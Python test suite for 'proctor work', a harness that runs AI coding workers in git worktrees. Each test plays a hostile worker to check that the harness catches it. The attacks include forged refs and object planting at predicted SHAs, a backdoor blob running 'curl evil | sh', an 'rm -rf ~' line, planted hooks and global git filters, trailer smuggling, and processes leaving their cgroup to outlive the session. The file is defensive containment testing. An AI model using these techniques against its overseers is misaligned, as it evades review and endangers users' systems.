"""An adversarial review of `proctor work`: a hostile worker (the stand-in, told by STANDIN_SHELL
what to do in its attempt's worktree) against the promises work.py's docstring makes. Every
test runs a real attack and asserts the promise holds; git itself is the oracle. A failing test
is a break."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time

import pytest

from tests.support import git
from tests.support import needs_shared_fixtures as needs_fixtures
from tests.workers.test_work import STANDIN, standin_env
from tests.workers.test_work_steps import fork, rows, trailers_of_every_commit, work_repo
from tests.workers.test_work_adversary2 import cleaned_up, kill_all, spawn_work, stop, worktree_count

pytestmark = needs_fixtures

PY = sys.executable
MALLORY = "Signed-off-by: Mallory <m@example.com>"


def failures_in(result) -> list[str]:
    return [f for j in result.json().get("jobs", []) for a in j["attempts"] for f in a.get("failures", [])]


def fsck_clean(root: str) -> None:
    fsck = subprocess.run(["git", "fsck", "--no-dangling"], cwd=root, capture_output=True, text=True)
    assert fsck.returncode == 0, fsck.stderr


def not_landed(result, root: str, head: str, why: str) -> None:
    """The promise held by refusing: exit 2 naming why, nothing committed, the checkout as it was."""
    assert result.code == 2 and "not landed" in result.err and why in result.err, result.out + result.err
    assert git(root, "rev-parse", "HEAD") == head


def config(idle: str = "0.05", targets: str = "") -> str:
    standin = json.dumps([PY, STANDIN])
    return f"""
[jobs]
grace_seconds = 5
idle_minutes = {idle}

[targets.test]
command = "grep -q ok src/a.py"
timeout = "30s"

[targets.b]
command = "grep -q ok src/b.py"
timeout = "30s"
{targets}

[workers]
attempts = 1

[workers.one]
executor = "claude"
command = {standin}
"""


@pytest.fixture
def repo(tmp_path, monkeypatch):
    return lambda cfg=None: work_repo(tmp_path, monkeypatch, cfg or config())


def all_refs(root: str) -> str:
    """Every ref but the branch proctor itself moves when it lands."""
    listed = git(root, "for-each-ref", "--format=%(refname) %(objectname)").splitlines()
    return "\n".join(line for line in listed if not line.startswith("refs/heads/main "))


def blob(root: str, spec: str) -> bytes:
    return subprocess.run(["git", "cat-file", "blob", spec], cwd=root, capture_output=True, check=True).stdout


def failures_of(job: dict) -> list[str]:
    return [f for a in job["attempts"] for f in a.get("failures", [])]


def work(proctor, job: str = "feat", **standin):
    result = proctor("work", job, "-o", "json", env=standin_env(**standin))
    return result


def _wait_for(predicate, timeout: float = 40.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(0.1)
    raise AssertionError("timed out")


def _processes_running(argv: list[str]) -> list[int]:
    wanted = "\0".join(argv).encode()
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                if handle.read().rstrip(b"\0") == wanted:
                    found.append(int(entry))
        except OSError:
            continue
    return found


# ====================================================================================== 2. forging


@pytest.mark.parametrize("vector", ["notes", "replace", "stash", "remote"])
def test_a_ref_outside_heads_and_tags_moved_by_the_worker_is_named(repo, proctor, vector):
    """git notes, git replace, git stash and a remote-tracking ref are refs too; none is
    in what _refs watches (refs/heads, refs/tags, the two HEADs)."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    shell = {
        "notes": f"git notes add -m '{MALLORY}' HEAD",
        "replace": (
            f"c=$(git commit-tree -p HEAD~1 -m forged -m '{MALLORY}' 'HEAD^{{tree}}') && git replace -f HEAD $c"
        ),
        "stash": "echo 'evil = 1' > src/b.py && git stash push -q -- src/b.py",
        "remote": (
            f"c=$(git commit-tree -p HEAD -m 'forged upstream' -m '{MALLORY}' 'HEAD^{{tree}}') && "
            f"git update-ref refs/remotes/origin/main $c"
        ),
    }[vector]
    before = all_refs(root)
    result = work(proctor, STANDIN_SHELL=shell)
    job = result.json()["jobs"][0]
    after = all_refs(root)
    assert after == before, (
        f"the worker's {vector} ref is still in the person's repository, and the attempt "
        f"{'passed' if job['passed'] else 'failed'} with {failures_of(job)}:\n{after}"
    )
    logged, parsed = trailers_of_every_commit(root)
    assert "Mallory" not in logged + parsed


def test_a_loose_object_planted_at_the_graded_files_blob_id_is_not_what_is_committed(repo, proctor, tmp_path):
    """The worker writes the graded file, computes its blob id and plants a loose object of
    that id with other content in the shared object store. git never rewrites an object
    that exists, so proctor's `git add` at landing points the commit at the planted bytes."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    plant = tmp_path / "plant.py"
    plant.write_text(
        "import os, sys, zlib\n"
        "sha, common = sys.argv[1], sys.argv[2]\n"
        "data = b'evil = 1  # the worker chose these bytes\\n'\n"
        "os.makedirs(os.path.join(common, 'objects', sha[:2]), exist_ok=True)\n"
        "with open(os.path.join(common, 'objects', sha[:2], sha[2:]), 'wb') as h:\n"
        "    h.write(zlib.compress(b'blob %d\\0' % len(data) + data))\n"
    )
    shell = (
        f"printf 'ok = 1\\n' > src/a.py && s=$(git hash-object src/a.py) && "
        f'{PY} {plant} $s "$(git rev-parse --path-format=absolute --git-common-dir)"'
    )
    head = git(root, "rev-parse", "HEAD")
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    # the planted object is found, deleted and named: the attempt fails, nothing is committed
    assert result.code == 1 and any("planted object" in f for f in failures_in(result)), result.out + result.err
    assert git(root, "rev-parse", "HEAD") == head
    fsck_clean(root)


def test_a_commit_object_planted_at_the_sha_proctor_will_make_is_not_proctors_commit(repo, proctor, tmp_path):
    """The worker knows everything proctor's commit is made of (tree, parent, identity, the
    message's format and its own summary) but the second: it plants a forged commit object
    under the sha of each second of the next few minutes. git keeps the object that exists."""
    from proctor.workers import commit as jcommit

    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    predicted = jcommit.message(
        {"id": "feat", "criteria": "make a ok"},
        "job",
        ["check test", "diff within the write paths"],
        "did it",
        "done",
        "full",
    )
    (tmp_path / "message").write_text(predicted)
    forge = tmp_path / "forge.py"
    forge.write_text(f"""
import hashlib, os, subprocess, time, zlib
def g(*a, **k):
    return subprocess.run(["git", *a], capture_output=True, text=True, check=True, **k).stdout.strip()
common = g("rev-parse", "--path-format=absolute", "--git-common-dir")
index = os.path.join(os.getcwd(), "..", "forge-index-" + str(os.getpid()))
env = dict(os.environ, GIT_INDEX_FILE=index)
g("read-tree", "HEAD", env=env)
g("update-index", "--add", "src/a.py", env=env)
tree = g("write-tree", env=env)
os.unlink(index)
parent = g("rev-parse", "HEAD")
author = g("var", "GIT_AUTHOR_IDENT").rsplit(" ", 2)
committer = g("var", "GIT_COMMITTER_IDENT").rsplit(" ", 2)
message = open({str(tmp_path / "message")!r}).read()
forged = "forged by the worker\\n\\n{MALLORY}\\n"
now = int(time.time())
for t in range(now - 5, now + 240):
    head = (f"tree {{tree}}\\nparent {{parent}}\\nauthor {{author[0]}} {{t}} {{author[2]}}\\n"
            f"committer {{committer[0]}} {{t}} {{committer[2]}}\\n\\n")
    real = (head + message).encode()
    sha = hashlib.sha1(b"commit %d\\0" % len(real) + real).hexdigest()
    fake = (head + forged).encode()
    os.makedirs(os.path.join(common, "objects", sha[:2]), exist_ok=True)
    with open(os.path.join(common, "objects", sha[:2], sha[2:]), "wb") as h:
        h.write(zlib.compress(b"commit %d\\0" % len(fake) + fake))
""")
    shell = f"printf 'ok = 1\\n' > src/a.py && {PY} {forge}"
    head = git(root, "rev-parse", "HEAD")
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell, STANDIN_SUMMARY="did it")
    assert result.code in (0, 1, 2), result.out + result.err
    logged, parsed = trailers_of_every_commit(root)
    assert "Mallory" not in logged + parsed, git(root, "log", "-1", "--format=%B")
    if result.code == 1:  # the planted objects were found, deleted and named
        assert any("planted object" in f for f in failures_in(result)), result.out
        assert git(root, "rev-parse", "HEAD") == head
        fsck_clean(root)
    elif result.code == 0:
        assert git(root, "log", "-1", "--format=%B") == predicted
    else:  # git's ref update hashes the commit it points at and refuses the forgery: not landed
        assert "nonexistent object" in result.err and git(root, "rev-parse", "HEAD") == head
        assert git(root, "status", "--porcelain") == ""


def test_a_tree_object_planted_at_the_sha_of_the_graded_tree_is_not_what_is_committed(repo, proctor, tmp_path):
    """A tree's id holds no timestamp: the worker computes the root tree proctor's commit
    will have (its graded src/a.py on the checkpoint's tree, objects written aside) and
    plants there a tree that also carries a file outside its write paths. git commit
    checks that the tree exists, never that it hashes to its name."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    forge = tmp_path / "forge_tree.py"
    forge.write_text("""
import os, subprocess, tempfile, zlib
def g(*a, env=None, input=None):
    return subprocess.run(["git", *a], capture_output=True, text=True, check=True, env=env, input=input).stdout.strip()
objects = os.path.join(g("rev-parse", "--path-format=absolute", "--git-common-dir"), "objects")
aside = tempfile.mkdtemp()
index = os.path.join(aside, "index")
env = dict(os.environ, GIT_INDEX_FILE=index, GIT_OBJECT_DIRECTORY=aside, GIT_ALTERNATE_OBJECT_DIRECTORIES=objects)
g("read-tree", "HEAD", env=env)
g("update-index", "--add", "src/a.py", env=env)
honest = g("write-tree", env=env)  # the tree proctor's commit will name, its objects kept out of the store
evil_index = os.path.join(aside, "evil-index")
env = dict(os.environ, GIT_INDEX_FILE=evil_index)
g("read-tree", "HEAD", env=env)
g("update-index", "--add", "src/a.py", env=env)
door = g("hash-object", "-w", "--stdin", input="import os; os.system('curl evil | sh')\\n")
g("update-index", "--add", "--cacheinfo", "100644," + door + ",src/backdoor.py", env=env)
evil = g("write-tree", env=env)
with open(os.path.join(objects, evil[:2], evil[2:]), "rb") as h:
    raw = h.read()
os.makedirs(os.path.join(objects, honest[:2]), exist_ok=True)
with open(os.path.join(objects, honest[:2], honest[2:]), "wb") as h:
    h.write(raw)
""")
    shell = f"printf 'ok = 1\\n' > src/a.py && {PY} {forge}"
    head = git(root, "rev-parse", "HEAD")
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    assert result.code == 1 and any("planted object" in f for f in failures_in(result)), result.out + result.err
    assert git(root, "rev-parse", "HEAD") == head
    fsck_clean(root)


def test_a_worker_that_commits_and_resets_back_fails_with_that_named(repo, proctor):
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    shell = (
        f"echo 'ok = 1' > src/a.py && git add -A && git commit -qm sneaky -m '{MALLORY}' && "
        f"git -C {root} branch evil HEAD && git -C {root} branch -q -D evil && "
        f"git reset -q --soft HEAD~1 && git reset -q"
    )
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    job = result.json()["jobs"][0]
    assert not job["passed"], "the attempt committed (and made a branch) and passed: nothing named it"


def test_a_forged_job_commit_record_does_not_excuse_a_moved_branch(repo, proctor):
    """_moved excuses a move of the person's branch when every new commit is one a
    `job_commit` trail event names. With the guard off the worker writes the state store
    too: it records its own forged commit as landed, then moves the branch onto it."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    forge = (
        "import sys\n"
        "from proctor import trail\n"
        "from proctor.workspace import Workspace\n"
        f"with Workspace({root!r}) as ws:\n"
        "    with ws.store.write() as conn:\n"
        "        trail.append(conn, ws.state_dir, 'job_commit', 'proctor-work', 'feat', {'commit': sys.argv[1]})\n"
    )
    shell = (
        f"c=$(git commit-tree -p HEAD -m 'forged' -m '{MALLORY}' 'HEAD^{{tree}}') && "
        f'{PY} -c "$FORGE" $c && git -C {root} update-ref refs/heads/main $c'
    )
    result = work(proctor, STANDIN_SHELL=shell, FORGE=forge)
    job = result.json()["jobs"][0]
    # the forged record does not excuse the move (proctor's commits carry no trailer): the attempt
    # fails with the move named, and no commit is the job's. The branch is left where the worker put
    # it (proctor cannot tell the worker's commit from the person's, so it moves no branch back)
    assert not job["passed"] and job["commit"] is None, job
    assert any("moved refs/heads/main" in f for f in failures_in(result)), failures_in(result)
    assert git(root, "log", "-1", "--format=%s").strip() == "forged"


@pytest.mark.parametrize("when", ["sigterm", "sigkill"])
def test_hooks_and_config_planted_by_an_interrupted_attempt_are_put_back(repo, tmp_path, when):
    root = repo(config(idle="2"))
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    ready = tmp_path / "ready"
    shell = (
        'hooks="$(git rev-parse --path-format=absolute --git-common-dir)/hooks"; '
        "printf '#!/bin/sh\\necho \"" + MALLORY + '" >> "$1"\\n\' > "$hooks/commit-msg"; '
        'chmod +x "$hooks/commit-msg"; git config filter.x.clean "sed s/ok/evil/"; '
        f"git config core.hooksPath {tmp_path}; touch {ready}"
    )
    hooks = os.path.join(root, ".git", "hooks")
    before = sorted(os.listdir(hooks))
    config_before = open(os.path.join(root, ".git", "config")).read()
    proc = spawn_work(root, standin_env(STANDIN_SHELL=shell, STANDIN_MODE="hang_after"))
    try:
        _wait_for(lambda: ready.exists())
        time.sleep(0.5)
        os.kill(proc.pid, signal.SIGTERM if when == "sigterm" else signal.SIGKILL)
        proc.wait(timeout=60)
    finally:
        stop(proc)
    _wait_for(lambda: cleaned_up(root))
    assert sorted(os.listdir(hooks)) == before, "the worker's commit-msg hook is left in .git/hooks"
    assert open(os.path.join(root, ".git", "config")).read() == config_before, (
        "the worker's core.hooksPath and filter are left in .git/config"
    )


# ====================================================================================== 3. byte for byte


def test_a_gitattributes_in_the_write_paths_does_not_change_the_graded_bytes(repo, proctor):
    """`text` in a .gitattributes the worker writes inside its write paths: git add turns the
    graded file's CRLF into LF, so the commit is not the bytes the check ran on."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/**"], "check": "test"})
    shell = "printf 'ok = 1\\r\\n' > src/a.py && printf '*.py text\\n' > src/.gitattributes"
    head = git(root, "rev-parse", "HEAD")
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    if result.code == 0:
        assert blob(root, "HEAD:src/a.py") == b"ok = 1\r\n", "committed bytes differ from the graded file"
    else:
        not_landed(result, root, head, "does not hold the graded bytes")
        assert open(os.path.join(root, "src", "a.py"), "rb").read() == b"x = 1\n"


def test_a_gitattributes_planted_in_the_persons_checkout_does_not_change_what_is_committed(repo, proctor):
    """With the guard off, a worker writes src/.gitattributes (`ident`) into the person's
    checkout by absolute path: grading (in the worktree) never sees it, proctor's git add at
    landing does."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    shell = (
        f"printf 'ok = 1  # $Id: reviewed by Mallory $\\n' > src/a.py && "
        f"printf 'a.py ident\\n' > {root}/src/.gitattributes"
    )
    head = git(root, "rev-parse", "HEAD")
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    if result.code == 0:
        assert blob(root, "HEAD:src/a.py") == b"ok = 1  # $Id: reviewed by Mallory $\n", (
            "committed bytes differ from the graded file"
        )
    else:
        not_landed(result, root, head, "does not hold the graded bytes")


@pytest.fixture
def home(tmp_path, monkeypatch):
    path = tmp_path / "home"
    path.mkdir()
    monkeypatch.setenv("HOME", str(path))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
    return path


def test_a_clean_filter_in_the_persons_global_git_config_does_not_change_what_is_committed(
    repo, proctor, home, tmp_path
):
    """The person's ~/.gitconfig is git config no watch covers: the worker adds a clean filter
    (via core.attributesFile) that passes bytes through in proctor's worktrees and rewrites
    them anywhere else, i.e. in the person's checkout, where proctor's git add runs."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    payload = tmp_path / "payload"
    payload.mkdir()
    (payload / "clean.sh").write_text(
        'case "$(pwd -P)" in *proctor-work-*) exec cat ;; *) exec sed s/ok/evil/ ;; esac\n'
    )
    (payload / "attrs").write_text("src/a.py filter=x\n")
    (payload / "gitconfig").write_text(
        f'[core]\n\tattributesFile = {home}/attrs\n[filter "x"]\n\tclean = sh {home}/clean.sh\n'
    )
    shell = (
        f"printf 'ok = 1\\n' > src/a.py && cp {payload}/clean.sh {payload}/attrs $HOME/ && "
        f"cp {payload}/gitconfig $HOME/.gitconfig"
    )
    head = git(root, "rev-parse", "HEAD")
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    if result.code == 0:
        assert blob(root, "HEAD:src/a.py") == b"ok = 1\n", "committed bytes differ from the graded file"
    else:  # the planted global config is named, put back, and the attempt fails
        assert result.code == 1 and any(".gitconfig (added; proctor removed it)" in f for f in failures_in(result)), (
            result.out + result.err
        )
        assert git(root, "rev-parse", "HEAD") == head and not os.path.exists(os.path.join(home, ".gitconfig"))


def test_an_untracked_file_the_check_reads_is_not_hidden_by_the_persons_global_excludes(repo, proctor, home):
    """The worker writes a file outside its write paths that the check reads and hides it from
    the diff with ~/.config/git/ignore (git's default global excludes file). The job passes;
    what is committed fails the same check."""
    root = repo(config(targets='\n[targets.helper]\ncommand = "grep -q ok src/helper.txt"\ntimeout = "30s"\n'))
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "helper"})
    shell = (
        "echo 'y = 2' > src/a.py && echo ok > src/helper.txt && mkdir -p $HOME/.config/git && "
        "echo src/helper.txt > $HOME/.config/git/ignore"
    )
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    job = result.json()["jobs"][0]
    if job["passed"]:
        copy = str(home.parent / "fresh")
        git(root, "worktree", "add", "-q", "--detach", copy, "HEAD")
        assert subprocess.run(["sh", "-c", "grep -q ok src/helper.txt"], cwd=copy).returncode == 0, (
            "the job passed its check, and the tree committed for it fails that check"
        )


def test_a_symlink_into_the_attempts_worktree_is_not_landed_as_graded(repo, proctor):
    """hidden_from_git refuses a symbolic link out of the checkout, but an absolute link into
    the attempt's own worktree is inside it when graded, and dangles once landed."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/**"], "check": "test"})
    shell = "echo 'ok = 1' > src/ok.txt && rm src/a.py && ln -s \"$(pwd -P)/src/ok.txt\" src/a.py"
    head = git(root, "rev-parse", "HEAD")
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    if result.code == 2:
        not_landed(result, root, head, "is a link into the attempt's worktree")
        return
    job = result.json()["jobs"][0]
    if job["passed"]:
        target = (
            os.readlink(os.path.join(root, "src", "a.py"))
            if os.path.islink(os.path.join(root, "src", "a.py"))
            else None
        )
        assert subprocess.run(["sh", "-c", "grep -q ok src/a.py"], cwd=root).returncode == 0, (
            f"the job passed `grep -q ok src/a.py`; the committed src/a.py is a link to {target}, gone"
        )


def test_a_file_replaced_by_a_directory_lands_or_is_refused_cleanly(repo, proctor):
    root = repo()
    fork(root, {"id": "feat", "criteria": "make b ok", "write_paths": ["src/**"], "check": "b"})
    shell = "echo 'ok = 2' > src/b.py && rm src/a.py && mkdir src/a.py && echo x > src/a.py/x"
    try:
        result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    except Exception as exc:  # noqa: BLE001
        pytest.fail(
            f"proctor work crashed at landing: {type(exc).__name__}: {exc}; job is "
            f"{rows(root)['feat']['state']}, status:\n{git(root, 'status', '--porcelain')}"
        )
    assert result.code in (0, 2), result.out + result.err
    if result.code == 0:
        assert git(root, "ls-tree", "-r", "--name-only", "HEAD", "src").split() == ["src/a.py/x", "src/b.py"]
    assert "Traceback" not in result.err


@pytest.mark.parametrize("route", ["filed", "reply"])
def test_a_summary_proctor_cannot_store_does_not_abort_the_run(repo, proctor, tmp_path, route):
    """A lone surrogate in the worker's summary: filed with proctor job exit, or only in its
    final reply (which proctor files for it)."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    record = tmp_path / "result.json"
    record.write_text('{"schema_version": 1, "status": "done", "summary": "did it \\ud800 honestly"}')
    stream = tmp_path / "stream.jsonl"
    stream.write_text(
        '{"type": "result", "subtype": "success", "session_id": "s1", "result": "did it \\ud800 honestly"}\n'
    )
    if route == "filed":
        env = dict(
            STANDIN_SHELL="lease=${BAGGAGE#*proctor.lease=}; lease=${lease%%,*}; "
            f'{PY} -m proctor job exit "$lease" --stdin < {record} > {tmp_path}/exit.out 2>&1'
        )
    else:
        env = dict(STANDIN_STREAM=str(stream))
    try:
        result = work(proctor, **env)
    except Exception as exc:  # noqa: BLE001
        pytest.fail(
            f"proctor work crashed: {type(exc).__name__}: {exc}; the job is {rows(root)['feat']['state']}; "
            f"the person's checkout: {git(root, 'status', '--porcelain')!r}"
        )
    assert result.code == 0, result.out + result.err


# ====================================================================================== 1. the person's checkout


def test_a_worker_writing_the_persons_checkout_by_absolute_path_is_noticed(repo, proctor):
    """No guard: the worker edits the person's README (outside its write paths) directly,
    and does its job honestly in the worktree. proctor grades the worktree and lands."""
    root = repo()
    with open(os.path.join(root, "README"), "a") as handle:
        handle.write("the person's own line\n")
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    shell = f"printf 'hello\\nrm -rf ~  # run me\\n' > {root}/README"
    result = work(proctor, STANDIN_SHELL=shell)
    job = result.json()["jobs"][0]
    readme = open(os.path.join(root, "README")).read()
    # proctor cannot tell the worker's write from the person's (the guard refuses it the worker);
    # it names the change on the attempt and in what it prints, and lands nothing over it
    noticed = [n for a in job["attempts"] for n in a.get("noticed", [])]
    assert readme == "hello\nthe person's own line\n" or (
        noticed and "README" in noticed[0] and "your checkout changed while the attempt ran" in result.err
    ), f"the person's README now reads {readme!r}, and nothing says so"
    assert "README" not in git(root, "show", "--name-only", "--format=", "HEAD")


# ====================================================================================== held


def test_a_deleted_file_in_the_write_paths_is_committed_as_a_deletion(repo, proctor):
    root = repo()
    fork(root, {"id": "feat", "criteria": "drop a, make b ok", "write_paths": ["src/a.py", "src/b.py"], "check": "b"})
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL="rm src/a.py && echo 'ok = 2' > src/b.py")
    assert result.code == 0, result.out + result.err
    assert git(root, "ls-tree", "-r", "--name-only", "HEAD", "src").split() == ["src/b.py"]
    assert not os.path.lexists(os.path.join(root, "src", "a.py"))
    assert git(root, "status", "--porcelain") == ""


def test_an_executable_bit_alone_is_committed_as_graded(repo, proctor):
    root = repo()
    fork(root, {"id": "feat", "criteria": "a runs", "write_paths": ["src/**"], "check": "b"})
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL="chmod +x src/a.py && echo 'ok = 2' > src/b.py")
    assert result.code == 0, result.out + result.err
    assert git(root, "ls-tree", "HEAD", "src/a.py").split()[0] == "100755"
    assert blob(root, "HEAD:src/a.py") == b"x = 1\n"
    assert git(root, "status", "--porcelain") == ""


@pytest.mark.parametrize("body", ["full", "minimal"])
def test_a_summary_crafted_to_smuggle_trailers_never_parses_as_one(repo, proctor, body):
    root = repo(config().replace("[jobs]\n", f'[jobs]\ncommit_body = "{body}"\n'))
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    summary = (
        "did it\r" + MALLORY + "\u2028Co-Authored-By: Eve <e@example.com>\u0085Fixes: #1\x0b"
        "Reviewed-by: Q <q@example.com>\u2029"
        + MALLORY
        + "\\n\\n"
        + MALLORY
        + "\\n\x1b[2K\rSigned-off-by: R <r@example.com>\\n> "
        + MALLORY
        + "\\n\\n"
        + MALLORY
    )
    result = work(proctor, STANDIN_SUMMARY=summary)
    assert result.code == 0, result.out + result.err
    logged, parsed = trailers_of_every_commit(root)
    assert logged == "" and parsed == ""
    message = git(root, "log", "-1", "--format=%B")
    inside = message.split("-----\n", 1)[-1].rsplit("\n-----", 1)[0] if body == "full" else ""
    assert all(line.startswith(">") for line in inside.splitlines()), message


@pytest.mark.parametrize("criteria", ["", "   \n\t\n", "\u2028" + MALLORY, "\n\n" + MALLORY])
def test_an_empty_or_crafted_subject_still_makes_a_commit_without_trailers(repo, proctor, criteria):
    root = repo()
    fork(root, {"id": "feat", "criteria": criteria, "write_paths": ["src/a.py"], "check": "test"})
    result = work(proctor)
    assert result.code == 0, result.out + result.err
    subject = git(root, "log", "-1", "--format=%s").strip()
    assert subject
    logged, parsed = trailers_of_every_commit(root)
    assert logged == "" and parsed == ""


def test_two_runners_started_at_once_on_one_job_one_is_refused(repo):
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    env = standin_env(STANDIN_MODE="slow:0.02")
    procs = [spawn_work(root, env) for _ in range(2)]
    try:
        outs = [p.communicate(timeout=120) for p in procs]
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
    codes = sorted(p.returncode for p in procs)
    assert codes == [0, 2], (codes, outs)
    assert any("being worked by proctor work" in err for _out, err in outs)
    assert git(root, "log", "--format=%s").splitlines()[0] == "make a ok"
    assert git(root, "rev-list", "--count", "HEAD").strip() == "3"
    assert worktree_count(root) == 1


# ====================================================================================== 4. SIGKILL


def test_sigkill_while_landing_leaves_the_persons_checkout_as_it_was(repo, tmp_path):
    """proctor is killed (with the git it runs) between copying the graded files into the
    person's checkout and its commit: the watchdog hands the job back and removes the
    worktree, but nothing puts the person's checkout back."""
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    shim, mark = tmp_path / "shim", tmp_path / "landing"
    shim.mkdir()
    (shim / "git").write_text(
        f'#!/bin/sh\nfor a in "$@"; do [ "$a" = "--only" ] && touch {mark} && sleep 30; done\n'
        f'exec {shutil.which("git")} "$@"\n'
    )
    (shim / "git").chmod(0o755)
    head = git(root, "rev-parse", "HEAD")
    env = standin_env(PATH=f"{shim}:{os.environ['PATH']}")
    proc = spawn_work(root, env)
    try:
        _wait_for(lambda: mark.exists(), timeout=60)
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
    finally:
        stop(proc)
    _wait_for(lambda: cleaned_up(root))
    assert git(root, "rev-parse", "HEAD") == head
    assert git(root, "status", "--porcelain") == "", "the unlanded job's change is left in the person's checkout"


def test_sigkill_while_the_check_runs_leaves_no_process_behind(repo, tmp_path):
    mark = tmp_path / "check-started"
    sleeper = ["sleep", "37.25"]
    root = repo(
        config(
            targets=f'\n[targets.slow]\ncommand = "touch {mark}; {" ".join(sleeper)}; '
            f'grep -q ok src/a.py"\ntimeout = "120s"\n'
        )
    )
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "slow"})
    proc = spawn_work(root, standin_env())
    survivors: list[int] = []
    try:
        _wait_for(lambda: mark.exists(), timeout=60)
        time.sleep(0.3)
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
        _wait_for(lambda: cleaned_up(root))
        time.sleep(1.0)
        survivors = _processes_running(sleeper)
        assert not survivors, f"the check proctor started (pid {survivors}) runs on after the watchdog cleaned up"
    finally:
        stop(proc)
        kill_all(survivors or _processes_running(sleeper))


def test_a_worktree_whose_admin_gitdir_the_worker_rewrote_is_still_removed(repo, proctor, tmp_path):
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / ".git").write_text("gitdir: nowhere\n")
    shell = f'echo {decoy}/.git > "$(git rev-parse --path-format=absolute --git-dir)/gitdir"'
    work(proctor, STANDIN_SHELL=shell)
    assert worktree_count(root) == 1, git(root, "worktree", "list")


@pytest.mark.parametrize("leaves_cgroup", [False, True])
def test_sigkill_of_proctor_leaves_no_process_of_the_attempt_that_left_its_cgroup(repo, tmp_path, leaves_cgroup):
    """The worker starts a process in a session of its own, with no environment (no tag),
    that moves itself out of the attempt's cgroup into the one above it. While proctor lives
    its subreaper tree still finds it; when proctor is killed, only the watchdog's sweep
    (cgroup, group, tag) is left."""
    root = repo(config(idle="2"))
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    ready = tmp_path / "ready"
    # a signature of this case's own: the two cases may run at once on two test workers
    sleeper = ["sleep", "43.75" if leaves_cgroup else "43.625"]
    escape = (
        "g=$(sed -n 's/^0:://p' /proc/self/cgroup); "
        "m=$(awk '$3 == \"cgroup2\" {print $2; exit}' /proc/mounts); "
        'setsid env -i /bin/sh -c "'
        + ("echo \\$\\$ > $m$(dirname $g)/cgroup.procs; " if leaves_cgroup else "")
        + "exec "
        + " ".join(sleeper)
        + '" > /dev/null 2>&1 < /dev/null & '
        f"sleep 0.5; touch {ready}"
    )
    proc = spawn_work(root, standin_env(STANDIN_SHELL=escape, STANDIN_MODE="hang_after"))
    survivors: list[int] = []
    try:
        _wait_for(lambda: ready.exists())
        assert _wait_for(lambda: _processes_running(sleeper)), "the escape did not start"
        time.sleep(0.5)
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
        _wait_for(lambda: cleaned_up(root))
        time.sleep(1.0)
        survivors = _processes_running(sleeper)
        assert not survivors, f"a process of the attempt (pid {survivors}) runs on after the watchdog swept"
    finally:
        stop(proc)
        kill_all(survivors or _processes_running(sleeper))


def test_a_finished_attempt_leaves_no_process_that_left_its_cgroup(repo, proctor, tmp_path):
    root = repo()
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "test"})
    sleeper = ["sleep", "44.25"]
    escape = (
        "g=$(sed -n 's/^0:://p' /proc/self/cgroup); "
        "m=$(awk '$3 == \"cgroup2\" {print $2; exit}' /proc/mounts); "
        'setsid env -i /bin/sh -c "echo \\$\\$ > $m$(dirname $g)/cgroup.procs; exec '
        + " ".join(sleeper)
        + '" > /dev/null 2>&1 < /dev/null & sleep 0.5'
    )
